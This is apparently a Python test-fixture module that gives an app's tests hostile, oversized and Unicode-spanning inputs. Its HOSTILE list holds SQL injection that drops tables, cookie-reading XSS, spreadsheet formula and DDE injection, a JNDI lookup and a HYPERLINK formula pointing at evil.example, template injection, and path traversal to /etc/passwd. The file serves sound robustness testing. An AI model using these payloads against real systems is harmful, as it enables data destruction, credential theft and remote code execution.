"""Texts that no program expects: hostile ones, huge ones, and letters of every Unicode block."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

COLUMN = 16
"""Blocks begin at multiples of 16: a letter of each 16 code points is one of every block."""

_LARGE = ("Lo", "Co")
"""Of ideographs, syllables and private use, whose blocks are large, one in 256 will do."""

HOSTILE = (
    "'; DROP TABLE contacts; --",
    '" OR ""="',
    "Robert'); DELETE FROM suppressions;--",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example","Ann")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\CON",
    "%s%s%s%n %x",
    "a\x00b",
    "\x1b[2J\x1b]0;title\x07",
    "a\u202egnp.exe",
    "\u2066hidden\u2069",
    "line\nbreak\r\nand\ttab",
    "\ufeffbom",
    "\ud83d half an emoji",
    "\udc00 the other half",
    "e" + "\u0301" * 400,
    "NULL",
    "nan",
    "None",
    "[bold red]markup[/bold red] [/]",
    "| a | b |\n| --- | --- |",
    "`code` **bold** [link](javascript:alert(1))",
)

HUGE = "Ann " * 250_000
"""A name of a megabyte."""

LONG_STOP = "I have told you so often now. " * 330 + "Please stop texting me."
"""A reply of ten thousand characters, with the word that counts at its end."""


def letters() -> Iterator[str]:
    """Give an assigned character of each sixteen, so one or more of every Unicode block."""
    last_large = -256
    for start in range(0, 0x110000, COLUMN):
        if 0xD800 <= start <= 0xDFFF:
            continue
        for point in range(start, start + COLUMN):
            kind = unicodedata.category(chr(point))
            if kind == "Cn":
                continue
            if kind in _LARGE and point > 0x3000:
                if point - last_large < 256:
                    break
                last_large = point
            yield chr(point)
            break
